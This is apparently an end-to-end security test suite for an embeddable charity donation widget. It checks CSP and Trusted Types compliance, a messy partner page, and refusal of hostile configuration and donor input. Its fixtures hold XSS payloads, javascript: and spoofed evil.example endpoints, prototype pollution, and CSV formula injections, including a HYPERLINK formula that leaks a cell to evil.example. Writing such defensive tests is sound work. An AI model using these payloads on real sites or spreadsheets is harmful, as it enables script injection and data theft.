// Hardening, end to end: the widget on pages that restrict it, on a page that gets in its way,
// under partner configuration written by an attacker and with donor input written by one. On
// every page that can take a pledge, a donor completes one and the real receiver stores it.

import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { startStack, stopStack } from "./support/stack.mjs";
import { openPage } from "./support/browser.mjs";
import { ROOT, bundleFile } from "./support/paths.mjs";
import { STRICT_CSP, startHost } from "./support/host.mjs";
import { HOSTILE_CSS, plainPage } from "./support/pages.mjs";
import { computedStyles, waitForWidget } from "./support/widget.mjs";
import {
  TEXT,
  addGiftAid,
  amountLabel,
  chooseAmount,
  chooseOption,
  confirm,
  expectStep,
  expectThanks,
  fillDetails,
  makePledge,
  next,
  typeOtherAmount,
} from "./support/donor.mjs";

const TRUSTED_TYPES = "require-trusted-types-for 'script'; trusted-types 'none'";
const DONOR = { givenName: "Awa", familyName: "Traoré", email: "awa.traore@example.org", country: "ML" };
const en = TEXT.en;

let browser, host, receiver;

before(async () => {
  ({ browser, host, receiver } = await startStack());
});

after(() => stopStack({ browser, host, receiver }));

/** The policy in SECURITY.md's code block for partners, with its `<cdn>` and `<endpoint>` placeholders. */
function partnerPolicy() {
  const text = readFileSync(join(ROOT, "SECURITY.md"), "utf8");
  const block = /### The Content-Security-Policy a partner must allow\s+```\n([^`]+)```/.exec(text);
  assert.ok(block, "SECURITY.md gives partners a policy");
  return block[1].split("\n").map((line) => line.trim()).filter(Boolean).join(" ");
}

/** Records every request the page makes, and every dialog a script opens (and dismisses it). */
function watch(page) {
  const seen = { requests: [], dialogs: [] };
  page.on("request", (request) => seen.requests.push({ method: request.method(), url: request.url() }));
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  return seen;
}

/** Requests that went anywhere but the partner's own server (the page's `data:` icon aside). */
function offHost(requests) {
  return requests.filter(({ url }) => !url.startsWith(`${host.origin}/`) && url !== "data:,");
}

/** Polls until `condition()` holds; fails with `what` when it never does. */
async function eventually(what, condition, timeout = 5_000) {
  const deadline = Date.now() + timeout;
  while (!(await condition())) {
    if (Date.now() > deadline) assert.fail(`never happened: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

describe("pages that restrict what the widget may do", () => {
  test("under the strict CSP, a donor completes a pledge and nothing is reported", async () => {
    const url = host.page("/strict-csp.html", plainPage({ title: "Strict partner", loaderUrl: host.loaderUrl, endpoint: host.endpoint }), {
      csp: STRICT_CSP,
    });
    const { page, context, problems } = await openPage(browser);
    const response = await page.goto(url);
    assert.equal(response.headers()["content-security-policy"], STRICT_CSP);
    await waitForWidget(page);
    const reference = await makePledge(page, en, { amount: 3000, details: DONOR });
    assert.equal((await receiver.pledge(reference)).donor.given_name, DONOR.givenName);
    assert.deepEqual(problems, [], "no CSP violation, console error or exception");

    // The listener that would have caught a violation does catch one: an inline style.
    await page.evaluate(() => document.head.append(Object.assign(document.createElement("style"), { textContent: "p{}" })));
    await eventually("the inline style is reported", () => problems.some((p) => p.startsWith("CSP violation: style-src")));
    await context.close();
  });

  test("with Trusted Types enforced, the widget renders every step and its errors without an HTML sink", async () => {
    const csp = `${STRICT_CSP}; ${TRUSTED_TYPES}`;
    const url = host.page("/trusted-types.html", plainPage({ title: "Trusted Types partner", loaderUrl: host.loaderUrl, endpoint: host.endpoint }), {
      csp,
    });
    const { page, context, problems } = await openPage(browser);
    const response = await page.goto(url);
    assert.equal(response.headers()["content-security-policy"], csp);
    await waitForWidget(page);

    // The reactive parts too: the error summary and the inline messages appear and go.
    await next(page, en);
    await page.getByRole("group", { name: en.errorSummary }).waitFor();
    const reference = await makePledge(page, en, { amount: 3000, details: DONOR });
    assert.equal((await receiver.pledge(reference)).amount.minor_units, 3000);
    assert.deepEqual(problems, [], "no Trusted Types or CSP violation, console error or exception");

    // The page really enforces Trusted Types: a string written to innerHTML is refused and reported.
    const refused = await page.evaluate(() => {
      try {
        document.createElement("div").innerHTML = "<b>x</b>";
        return null;
      } catch (error) {
        return error.name;
      }
    });
    assert.equal(refused, "TypeError");
    await eventually("the innerHTML write is reported", () => problems.some((p) => p.includes("require-trusted-types-for")));
    await context.close();
  });

  test("the policy SECURITY.md asks partners to allow is enough, with the widget on another origin", async () => {
    // The receiver serves the widget's files as a CDN would; the endpoint is the partner's proxy.
    const cdn = receiver.origin;
    const policy = partnerPolicy().replaceAll("<cdn>", cdn).replaceAll("<endpoint>", host.origin);
    // Nothing but that policy, Trusted Types, and the page's own data: icon.
    const csp = `default-src 'none'; ${policy} img-src data:; ${TRUSTED_TYPES}`;
    const url = host.page("/partner-policy.html", plainPage({ title: "CDN partner", loaderUrl: `${cdn}/widget/sanankoroba-widget.js`, endpoint: host.endpoint }), {
      csp,
    });
    const { page, context, problems } = await openPage(browser);
    const seen = watch(page);
    await page.goto(url);
    await waitForWidget(page);
    const reference = await makePledge(page, en, { option: "village", amount: 2000, details: DONOR });
    assert.equal((await receiver.pledge(reference)).option, "village");
    assert.ok(seen.requests.some(({ url }) => url === `${cdn}/widget/${bundleFile("sanankoroba_widget_bg.wasm")}`), "the wasm came from the CDN");
    assert.deepEqual(problems, [], "no violation under the documented policy");
    await context.close();
  });
});

describe("a messy partner page", () => {
  test("RTL, a foreign <base>, extended prototypes, two loader tags and a late, re-added widget: a pledge still arrives", async () => {
    // Another server, where the page's <base href> points. The widget must never ask it for anything.
    const elsewhere = await startHost();
    const url = host.page(
      "/messy.html",
      `<!doctype html>
<html lang="ar" dir="rtl">
<head>
<meta charset="utf-8">
<base href="${elsewhere.origin}/elsewhere/">
<link rel="icon" href="data:,">
<title>Messy partner</title>
${HOSTILE_CSS.replace('href="/', `href="${host.origin}/`)}
<script src="${host.origin}/legacy-prototypes.js"></script>
<script src="${host.loaderUrl}" async></script>
</head>
<body>
<main><h1>Messy partner</h1><p>Relative links on this page lead to <a href="about.html">another site</a>.</p><div id="donate"></div></main>
<script src="${host.loaderUrl}" async></script>
<script>
  addEventListener("load", () => {
    const widget = document.createElement("sanankoroba-widget");
    widget.setAttribute("endpoint", ${JSON.stringify(host.endpoint)});
    widget.setAttribute("partner", "messy-school");
    widget.setAttribute("lang", "en");
    document.getElementById("donate").append(widget);
  });
</script>
</body>
</html>`
    );
    const { page, context, problems } = await openPage(browser);
    const seen = watch(page);
    await page.goto(url, { waitUntil: "load" });
    await waitForWidget(page);

    const pageState = await page.evaluate(() => ({
      direction: getComputedStyle(document.documentElement).direction,
      inheritedKeys: (() => {
        const keys = [];
        for (const key in []) keys.push(key);
        return keys.sort();
      })(),
      arrayJson: JSON.stringify([1, 2]),
      aboutLink: document.querySelector("main a").href,
      loaderTags: document.querySelectorAll('script[src$="/sanankoroba-widget.js"]').length,
    }));
    assert.equal(pageState.direction, "rtl", "the page itself is right to left");
    assert.deepEqual(pageState.inheritedKeys, ["extend", "first", "isEmpty", "remove", "toJSON"], "every for...in loop meets the extensions");
    assert.equal(pageState.arrayJson, '"[1, 2]"', "and JSON.stringify of arrays is broken, as on such pages");
    assert.equal(pageState.aboutLink, `${elsewhere.origin}/elsewhere/about.html`, "the page's <base> is in force");
    assert.equal(pageState.loaderTags, 2);

    const frame = await computedStyles(page, [".sk-frame", "p", "input", "button"], ["direction", "text-align"]);
    for (const [selector, style] of Object.entries(frame)) {
      assert.equal(style.direction, "ltr", `${selector} stays left to right`);
      assert.notEqual(style["text-align"], "right", `${selector} is not aligned to the right`);
    }

    // Removed, the widget leaves nothing behind; put back, it starts afresh.
    await chooseOption(page, en, "village");
    const emptied = await page.evaluate(() => {
      window.__widget = document.querySelector("sanankoroba-widget");
      window.__widget.remove();
      return window.__widget.shadowRoot.childElementCount;
    });
    assert.equal(emptied, 0, "removing the element unmounts the widget");
    await page.evaluate(() => document.getElementById("donate").append(window.__widget));
    await waitForWidget(page);
    assert.equal(await page.getByRole("radio", { name: en.options.village }).isChecked(), false, "the re-added widget starts afresh");

    const reference = await makePledge(page, en, { option: "oneOff", amount: 5000, details: DONOR });
    const stored = await receiver.pledge(reference);
    assert.equal(stored.partner, "messy-school");
    assert.equal(stored.option, "one_off");

    assert.deepEqual(offHost(seen.requests), [], "no request left the partner's server: <base> redirected nothing");
    assert.deepEqual(elsewhere.requests, [], "the <base> target was never asked for anything");
    const widgetRequests = seen.requests.filter(({ url }) => url.startsWith(`${host.origin}/widget/`)).map(({ url }) => url.slice(host.origin.length));
    assert.equal(widgetRequests.filter((path) => path.endsWith(".wasm")).length, 1, "one runtime, although the loader ran twice");
    const posts = seen.requests.filter(({ method }) => method === "POST").map(({ url }) => url);
    assert.deepEqual(posts, [host.endpoint], "the pledge went to the configured endpoint, once");
    assert.deepEqual(problems, [], "no console error (the second loader defined nothing twice), no exception");
    await context.close();
    await elsewhere.stop();
  });
  test("a widget mounted through the API lives on after garbage collection when the page drops its handle", async () => {
    const url = host.page(
      "/dropped-handle.html",
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>Dropped handle</title>
       <script src="${host.loaderUrl}"></script></head><body><div id="donate"></div></body></html>`
    );
    const { page, context, problems } = await openPage(browser);
    await page.goto(url);
    await page.evaluate(async (endpoint) => {
      await window.SanankorobaWidget.mount(document.getElementById("donate"), { endpoint, partner: "forgetful-school" }).ready;
    }, host.endpoint);
    await waitForWidget(page, "#donate");
    const devtools = await context.newCDPSession(page);
    await devtools.send("HeapProfiler.collectGarbage");

    // The page object finds steps inside <sanankoroba-widget>; here the widget lives in a <div>,
    // and roles and names alone find its controls.
    await page.getByRole("radio", { name: en.options.child, exact: true }).check();
    await next(page, en);
    await chooseAmount(page, await amountLabel(page, 2000, "GBP", en.locale));
    await next(page, en);
    await fillDetails(page, en, DONOR);
    await next(page, en);
    await page.getByRole("button", { name: en.confirm, exact: true }).click();
    const thanks = page.locator("#donate .sk-reference");
    await thanks.waitFor();
    const [, reference] = en.reference.exec(await thanks.textContent());
    assert.equal((await receiver.pledge(reference)).partner, "forgetful-school");
    assert.deepEqual(problems, []);
    await context.close();
  });
});

describe("partner configuration as an attack surface", () => {
  // Under Trusted Types alone, which blocks no request, so the configuration panel is proven to
  // render without an HTML sink as well, and any request would still be seen.
  const LONG = 200_000;
  const cases = [
    { name: "a javascript: endpoint", attributes: { endpoint: "javascript:alert(1)" }, refused: ["endpoint"] },
    { name: "a data: endpoint", attributes: { endpoint: "data:text/html,<script>alert(1)</script>" }, refused: ["endpoint"] },
    { name: "plain http to a host other than localhost", attributes: { endpoint: "http://evil.example/v1/pledges" }, refused: ["endpoint"] },
    { name: "plain http to a name that starts like localhost", attributes: { endpoint: "http://localhost.evil.example/v1/pledges" }, refused: ["endpoint"] },
    { name: "plain http in capitals", attributes: { endpoint: "HTTP://EVIL.EXAMPLE/v1/pledges" }, refused: ["endpoint"] },
    { name: "a protocol-relative endpoint, which <base> would resolve", attributes: { endpoint: "//evil.example/v1/pledges" }, refused: ["endpoint"] },
    { name: "backslashes, which browsers read as slashes", attributes: { endpoint: "https:\\\\evil.example\\v1\\pledges" }, refused: ["endpoint"] },
    { name: "credentials in the endpoint", attributes: { endpoint: "https://partner:secret@charity.example/v1/pledges" }, refused: ["endpoint"] },
    { name: "a loopback user name in front of another host", attributes: { endpoint: "http://127.0.0.1@evil.example/v1/pledges" }, refused: ["endpoint"] },
    {
      name: "markup in values that the error message quotes",
      attributes: { currency: "<img src=x onerror=alert(1)>", lang: "<script>alert(2)</script>" },
      refused: ["currency", "lang"],
      shown: ["<img src=x onerror=alert(1)>", "<script>alert(2)</script>"],
    },
    {
      name: `absurdly long values (${LONG.toLocaleString("en")} characters each)`,
      attributes: {
        endpoint: `${"https://charity.example/v1/pledges?"}${"a".repeat(LONG)}`,
        partner: "p".repeat(LONG),
        lang: "e".repeat(LONG),
        currency: "G".repeat(LONG),
        presets: `child:${"1,".repeat(LONG / 2)}`,
      },
      refused: ["endpoint", "partner", "lang", "currency", "presets"],
    },
  ];

  for (const { name, attributes, refused, shown = [] } of cases) {
    test(`${name}: refused visibly, and nothing is sent`, async () => {
      const config = { endpoint: host.endpoint, partner: "e2e-school", ...attributes };
      const element = `<sanankoroba-widget ${Object.entries(config)
        .map(([key, value]) => `${key}="${value.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")}"`)
        .join(" ")}></sanankoroba-widget>`;
      const path = `/config-attack-${cases.findIndex((c) => c.name === name)}.html`;
      const url = host.page(path, plainPage({ title: "Attacked configuration", loaderUrl: host.loaderUrl, endpoint: host.endpoint, partner: "" }).replace(/<sanankoroba-widget[^]*?<\/sanankoroba-widget>/, element), {
        csp: TRUSTED_TYPES,
      });
      const { page, context, problems } = await openPage(browser);
      const seen = watch(page);
      const postsBefore = host.pledgePosts();
      await page.goto(url);
      await waitForWidget(page);

      const alert = page.locator("sanankoroba-widget").getByRole("alert");
      assert.ok(await alert.isVisible(), "the configuration error is visible");
      const text = await alert.innerText();
      for (const attribute of refused) assert.match(text, new RegExp(`"${attribute}"`), `the message names "${attribute}"`);
      for (const value of shown) assert.ok(text.includes(value), `"${value}" is shown as text`);
      assert.equal(await page.locator("sanankoroba-widget .sk-frame").count(), 0, "no form to fill in");
      assert.equal(await page.locator("sanankoroba-widget").locator("img, script").count(), 0, "no markup from the values");

      assert.deepEqual(offHost(seen.requests), [], "no request to the configured endpoint or anywhere else");
      assert.deepEqual(seen.requests.filter(({ method }) => method !== "GET"), [], "no POST, no preflight");
      assert.equal(host.pledgePosts(), postsBefore);
      assert.deepEqual(seen.dialogs, [], "no script ran");
      const unexpected = problems.filter((p) => !p.startsWith("console.error: Sanankoroba widget: The "));
      assert.deepEqual(unexpected, [], "only the widget's own configuration messages are logged");
      assert.equal(problems.length, refused.length, "one console message per refused attribute");
      await context.close();
    });
  }

  test("the JavaScript API refuses the same endpoints, and nothing inherited from Object.prototype is a setting", async () => {
    const url = host.page(
      "/config-attack-api.html",
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>API</title>
       <script src="${host.loaderUrl}"></script></head><body><div id="slot"></div><div id="polluted"></div></body></html>`,
      { csp: TRUSTED_TYPES }
    );
    const { page, context, problems } = await openPage(browser);
    const seen = watch(page);
    await page.goto(url);
    await page.evaluate(async () => {
      await window.SanankorobaWidget.mount(document.getElementById("slot"), { endpoint: "javascript:alert(1)" }).ready;
    });
    await waitForWidget(page, "#slot");
    assert.match(await page.locator("#slot").getByRole("alert").innerText(), /"endpoint"/);

    // Another script on the page pollutes Object.prototype. Read as settings, the currency would
    // be refused; so a rendered form proves that neither the API nor the element read them.
    await page.evaluate((endpoint) => {
      Object.prototype.currency = "<img src=x onerror=alert(1)>";
      Object.prototype.partner = "Not A Partner";
      window.SanankorobaWidget.mount(document.getElementById("polluted"), { endpoint });
      const element = document.createElement("sanankoroba-widget");
      element.setAttribute("endpoint", endpoint);
      // First on the page, in view: elements mount only near the viewport.
      document.body.prepend(element);
    }, host.endpoint);
    await waitForWidget(page, "#polluted");
    await waitForWidget(page, "body > sanankoroba-widget");
    await page.evaluate(() => {
      delete Object.prototype.currency;
      delete Object.prototype.partner;
    });
    assert.equal(await page.locator("#polluted .sk-frame").count(), 1, "the API read only the object's own settings");
    assert.equal(await page.locator("body > sanankoroba-widget .sk-frame").count(), 1, "the element read only its attributes");

    assert.deepEqual(offHost(seen.requests), []);
    assert.deepEqual(seen.requests.filter(({ method }) => method !== "GET"), []);
    assert.deepEqual(seen.dialogs, []);
    assert.deepEqual(problems, ['console.error: Sanankoroba widget: The "endpoint" attribute must be an absolute URL, such as https://charity.example.org/v1/pledges.']);
    await context.close();
  });
});

describe("donor input as an attack surface", () => {
  // Every free-text field gets markup or a formula. The email field must be a valid address and
  // the postcode a valid UK postcode, so they carry none.
  const EMAIL = "o.mally+test@example.org";
  const POSTCODE = "SW1A 1AA";
  const DONORS = [
    {
      givenName: "<img src=x onerror=alert(1)>",
      familyName: '=HYPERLINK("http://evil.example/?leak="&A1,"Traoré")',
      homeAddress: '+1 <svg onload=alert(3)> 10 Downing Street, "Flat" &lt;b&gt;',
    },
    {
      givenName: "@SUM(1+1)<b onmouseover=alert(4)>Awa</b>",
      familyName: "-2+3 </dd><script>alert(5)</script>",
      homeAddress: '<iframe srcdoc="<script>alert(6)</script>"></iframe>, Rue du Fleuve',
    },
  ];

  /** RFC 4180, as the receiver writes it: CRLF rows, quoted cells, a byte order mark. */
  function parseCsv(text) {
    const rows = [];
    let row = [];
    let cell = "";
    let quoted = false;
    for (let i = text.startsWith("\ufeff") ? 1 : 0; i < text.length; i++) {
      const c = text[i];
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
        else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ",") row.push(cell), (cell = "");
      else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
      else cell += c;
    }
    const [header, ...records] = rows;
    for (const record of records) assert.equal(record.length, header.length, "markup and quotes never split or merge cells");
    return records.map((record) => Object.fromEntries(header.map((name, index) => [name, record[index]])));
  }

  /** What a spreadsheet must receive for a value the donor typed. */
  function neutralised(value) {
    return /^[=+\-@]/.test(value) ? `'${value}` : value;
  }

  test("payloads are shown as text, stored verbatim and exported without formulas", async () => {
    const url = host.page("/donor-input.html", plainPage({ title: "Partner page", loaderUrl: host.loaderUrl, endpoint: host.endpoint }), {
      csp: `${STRICT_CSP}; ${TRUSTED_TYPES}`,
    });
    const references = [];
    for (const donor of DONORS) {
      const { page, context, problems } = await openPage(browser);
      const seen = watch(page);
      await page.goto(url);
      await waitForWidget(page);
      await chooseOption(page, en, "child");
      await next(page, en);
      // The amount box refuses markup with a message and never echoes it back.
      await typeOtherAmount(page, en, donor.givenName);
      await next(page, en);
      await page.getByRole("group", { name: en.errorSummary }).waitFor();
      await typeOtherAmount(page, en, "");
      await chooseAmount(page, await amountLabel(page, 3000, "GBP", en.locale));
      await next(page, en);
      await expectStep(page, en.detailsHeading);
      await fillDetails(page, en, { givenName: donor.givenName, familyName: donor.familyName, email: EMAIL, country: "GB" });
      await addGiftAid(page, en, { homeAddress: donor.homeAddress, postcode: POSTCODE });
      await next(page, en);
      await expectStep(page, en.reviewHeading);

      const review = await page.locator("sanankoroba-widget dd.sk-review-value").allTextContents();
      assert.ok(review.includes(`${donor.givenName} ${donor.familyName}`), `the names read as typed on the review: ${review.join(" | ")}`);
      assert.ok(review.includes(donor.homeAddress), "the address reads as typed on the review");
      assert.ok(review.includes(EMAIL) && review.includes(POSTCODE));
      await assertNothingInjected(page, seen, "review");

      await confirm(page, en);
      const reference = await expectThanks(page, en, donor.givenName);
      const thanks = await page.locator("sanankoroba-widget .sk-thanks").innerText();
      assert.ok(thanks.includes(EMAIL), "the thank-you names the email address");
      await assertNothingInjected(page, seen, "thank-you");
      assert.deepEqual(problems, [], "no violation, console error or exception");
      references.push(reference);
      await context.close();
    }

    // Verbatim in the JSON export.
    for (const [index, reference] of references.entries()) {
      const stored = await receiver.pledge(reference);
      const donor = DONORS[index];
      assert.equal(stored.donor.given_name, donor.givenName);
      assert.equal(stored.donor.family_name, donor.familyName);
      assert.equal(stored.donor.email, EMAIL);
      assert.equal(stored.gift_aid.home_address, donor.homeAddress);
      assert.equal(stored.gift_aid.postcode, POSTCODE);
    }

    // Neutralised, and otherwise verbatim, in the CSV export.
    const response = await receiver.admin("/v1/pledges.csv");
    assert.match(response.headers.get("content-type"), /^text\/csv/);
    const rows = parseCsv(await response.text());
    for (const [index, reference] of references.entries()) {
      const row = rows.find((r) => r.reference === reference);
      assert.ok(row, `${reference} is in the CSV export`);
      const donor = DONORS[index];
      assert.equal(row.given_name, neutralised(donor.givenName));
      assert.equal(row.family_name, neutralised(donor.familyName));
      assert.equal(row.home_address, neutralised(donor.homeAddress));
      assert.equal(row.email, EMAIL);
    }
    const starts = DONORS.flatMap((d) => [d.givenName, d.familyName, d.homeAddress]).map((value) => value[0]);
    for (const first of ["=", "+", "-", "@"]) assert.ok(starts.includes(first), `a payload starts with ${first}`);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${row.reference} could run as a formula`);
      }
    }
  });

  /** No element, attribute or script came out of what the donor typed. */
  async function assertNothingInjected(page, seen, where) {
    const injected = await page.evaluate(() => {
      const root = document.querySelector("sanankoroba-widget").shadowRoot;
      const all = [...root.querySelectorAll("*")];
      return {
        elements: all.filter((el) => ["IMG", "SCRIPT", "IFRAME", "B"].includes(el.tagName)).map((el) => el.tagName),
        svgs: root.querySelectorAll("svg").length,
        handlers: all.flatMap((el) => [...el.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${el.tagName}[${a.name}]`)),
      };
    });
    assert.deepEqual(injected.elements, [], `no element made from input on the ${where} step`);
    assert.equal(injected.svgs, 1, `only the map's own svg on the ${where} step`);
    assert.deepEqual(injected.handlers, [], `no event handler attribute on the ${where} step`);
    assert.deepEqual(seen.dialogs, [], `no script ran on the ${where} step`);
    assert.deepEqual(seen.requests.filter(({ url }) => new URL(url).pathname.endsWith("/x")), [], "no image was fetched");
  }
});
